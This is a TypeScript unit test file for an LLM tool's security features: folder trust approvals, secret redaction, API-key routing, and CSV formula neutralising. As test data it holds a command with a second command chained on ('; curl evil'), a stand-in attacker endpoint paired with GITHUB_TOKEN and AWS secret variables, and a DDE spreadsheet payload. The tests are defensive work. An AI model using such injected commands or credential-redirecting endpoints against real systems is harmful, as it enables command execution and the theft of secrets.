// The trust model's core (src/core/trust.ts), redaction (src/core/redact.ts) and CSV cells (issue 9, items 1–4),
// as units; test/unit/security.test.ts drives the same through the real CLI.

import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { csvCell } from '../../src/core/export';
import { redact, redactingProxy } from '../../src/core/redact';
import { apiKeyFor, configTrustItems, TrustStore, unapproved } from '../../src/core/trust';
import type { RunConfig } from '../../src/core/runstore';
import { tmp } from '../support/cli';

test('trust store: an approval is for that exact value and that exact folder (real path), kept outside it', () => {
  const d = tmp();
  const folder = path.join(d, 'run');
  fs.mkdirSync(folder);
  const store = new TrustStore(path.join(d, 'cfg', 'trust.json'));
  const cfg = {
    predictor: 'external',
    operator: 'llm',
    spaceOptions: { externalEvaluator: 'python3 eval.py' },
    operatorOptions: { baseURL: 'https://evil.example/v1', apiKeyEnv: 'GITHUB_TOKEN' },
  } as Partial<RunConfig>;
  const items = configTrustItems(cfg);
  assert.deepEqual(
    items.map((i) => i.kind),
    ['command', 'endpoint'],
  );
  assert.equal(unapproved(folder, items, store).length, 2);
  store.approve(folder, items);
  assert.equal(unapproved(folder, items, store).length, 0);
  // a link to the folder is the same folder; a copy elsewhere is not
  fs.symlinkSync(folder, path.join(d, 'link'));
  assert.equal(unapproved(path.join(d, 'link'), items, store).length, 0);
  fs.mkdirSync(path.join(d, 'copy'));
  assert.equal(unapproved(path.join(d, 'copy'), items, store).length, 2);
  // another command or another endpoint for the same folder is not approved
  const changed = configTrustItems({
    ...cfg,
    spaceOptions: { externalEvaluator: 'python3 eval.py; curl evil' },
    operatorOptions: { baseURL: 'https://evil.example/v1', apiKeyEnv: 'AWS_SECRET_ACCESS_KEY' },
  });
  assert.equal(unapproved(folder, changed, store).length, 2);
  // given again in this invocation counts as approved
  assert.equal(
    unapproved(path.join(d, 'copy'), items, store, {
      commands: ['python3 eval.py'],
      endpoint: { baseURL: 'https://evil.example/v1', apiKeyEnv: 'GITHUB_TOKEN' },
    }).length,
    0,
  );
  assert.equal(store.revoke(folder), 2);
  assert.equal(unapproved(folder, items, store).length, 2);
  assert.ok(!fs.existsSync(path.join(folder, 'trust.json')));
  // the product's default endpoint with the default key variable needs no approval
  assert.deepEqual(configTrustItems({ operator: 'llm', predictor: 'rank-avg' }), []);
});

test('redact: the key (also JSON-escaped), Bearer tokens and api-key headers; short values left alone', () => {
  assert.equal(redact('key sk-abc123456789 end', ['sk-abc123456789']), 'key [REDACTED] end');
  assert.equal(redact('Authorization: Bearer abc.def-ghi', []), 'Authorization: Bearer [REDACTED]');
  assert.equal(redact('{"api-key": "0123456789abcdef"}', []), '{"api-key": "[REDACTED]"}');
  assert.equal(redact(JSON.stringify({ m: 'x"y\\z-secret-1' }), ['x"y\\z-secret-1']), '{"m":"[REDACTED]"}');
  assert.equal(redact('set OPENAI_API_KEY or --api-key-env', ['abc']), 'set OPENAI_API_KEY or --api-key-env');
});

test('extension key rule: the stored key goes only to the settings endpoint; an env key only where approved', () => {
  const env = { OPENAI_API_KEY: 'sk-env-openai-1234', GITHUB_TOKEN: 'ghp_token_123456789' };
  const opts = (approved: string[] = []) => ({
    userEndpoint: 'https://api.openai.com/v1/',
    storedKey: 'sk-from-secret-storage',
    env,
    approved: (e: { baseURL: string; apiKeyEnv: string }) => approved.includes(`${e.baseURL} ${e.apiKeyEnv}`),
  });
  const mine = { baseURL: 'https://api.openai.com/v1', apiKeyEnv: 'OPENAI_API_KEY' };
  const folder = { baseURL: 'https://evil.example/v1', apiKeyEnv: 'GITHUB_TOKEN' };
  assert.equal(apiKeyFor(mine, opts()), 'sk-from-secret-storage');
  assert.equal(apiKeyFor(folder, opts()), undefined);
  assert.equal(apiKeyFor({ ...folder, apiKeyEnv: 'OPENAI_API_KEY' }, opts()), undefined);
  // approved: that variable's value goes to that endpoint, never the stored key
  assert.equal(apiKeyFor(folder, opts(['https://evil.example/v1 GITHUB_TOKEN'])), 'ghp_token_123456789');
  // the user's endpoint with another variable named by a folder: not without approval
  assert.equal(
    apiKeyFor({ ...mine, apiKeyEnv: 'GITHUB_TOKEN' }, { ...opts(), storedKey: undefined }),
    undefined,
  );
  assert.equal(apiKeyFor(mine, { ...opts(), storedKey: undefined }), 'sk-env-openai-1234');
});

test('a redacting log: no line holds the key or a Bearer token (the extension wraps its log channel so)', () => {
  const lines: string[] = [];
  const log = {
    info: (s: string) => lines.push(s),
    error: (e: string | Error) => lines.push(String(e)),
    name: 'LLM-NAS',
  };
  const key = 'sk-live-abcdefgh12345';
  const wrapped = redactingProxy(log, ['info', 'error'], () => [key]);
  wrapped.info(`server said: invalid key ${key}`);
  wrapped.error(new Error(`401 Authorization: Bearer ${key}`));
  assert.equal(wrapped.name, 'LLM-NAS');
  assert.equal(lines.length, 2);
  for (const l of lines) assert.ok(!l.includes(key), l);
  assert.match(lines[0]!, /invalid key \[REDACTED\]/);
});

test('csvCell: cells starting with = + - @ tab CR are neutralised; numbers (negative too) stay numbers', () => {
  assert.equal(csvCell("=cmd|' /C calc'!A0"), `"'=cmd|' /C calc'!A0"`);
  for (const c of ['+1+1', '-1+2', '@SUM(A1)', '\tx', '\rx'])
    assert.equal(csvCell(c), `"'${c.replace(/"/g, '""')}"`, JSON.stringify(c));
  assert.equal(csvCell(-0.25), '-0.25');
  assert.equal(csvCell(3), '3');
  assert.equal(csvCell('plain, text'), '"plain, text"');
  assert.equal(csvCell(Number.NaN), 'NaN');
  assert.equal(csvCell(undefined), '');
});
